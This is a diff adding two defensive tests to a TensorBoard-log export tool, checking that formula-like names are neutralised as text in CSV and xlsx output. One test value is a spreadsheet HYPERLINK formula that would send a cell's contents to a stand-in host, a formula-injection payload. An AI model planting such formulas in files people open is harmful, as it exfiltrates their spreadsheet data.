@@ -579,3 +579,38 @@ def _info(pdf: Path) -> str:
     return subprocess.run(
         [require("pdfinfo"), str(pdf)], capture_output=True, text=True, timeout=60, check=True
     ).stdout
+
+
+def test_csv_safe_names_stay_text_in_a_spreadsheet(tmp_path: Path, calc: Convert) -> None:
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1;"click")'
+    write_events(tmp_path / "logs" / "=1+1" / "events.out.tfevents.1", [simple(hostile, 1, -2.5)])
+    write_events(tmp_path / "logs" / "@b" / "events.out.tfevents.1", [simple("+t", 1, 3.0)])
+    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
+    tbexport.export(tmp_path / "logs", raw)
+    tbexport.export(tmp_path / "logs", safe, csv_safe=True)
+    quoted = hostile.replace('"', '""')
+    assert safe.read_text().splitlines()[1:] == [
+        f"'=1+1,\"'{quoted}\",1,1001.0,-2.5",
+        "'@b,'+t,1,1001.0,3.0",
+    ]
+    out = calc([raw, safe], "xlsx")
+    cells = {
+        name: [
+            (c.value, c.data_type) for c in openpyxl.load_workbook(out / f"{name}.xlsx").active[2]
+        ]
+        for name in ("raw", "safe")
+    }
+    assert cells["raw"][0] == ("=1+1", "f")  # what a raw CSV does: a live formula
+    assert cells["safe"][0] == ("'=1+1", "s")
+    assert cells["safe"][1] == ("'" + hostile, "s")
+    assert cells["safe"][4] == (-2.5, "n")  # numbers are never changed
+
+
+def test_names_in_a_workbook_are_text_not_formulas(tmp_path: Path, calc: Convert) -> None:
+    for run in ("=1+1", "@b"):
+        write_events(tmp_path / "logs" / run / "events.out.tfevents.1", [simple("=2*3", 1, 4.0)])
+    book = tbexport.export(tmp_path / "logs", tmp_path / "w.xlsx").output
+    assert book is not None
+    out = calc([book], SHEET_CSV)
+    index = _sheets(out, book)["index"]
+    assert [row[:2] for row in index[1:]] == [["=1+1", "=2*3"], ["@b", "=2*3"]]  # as text
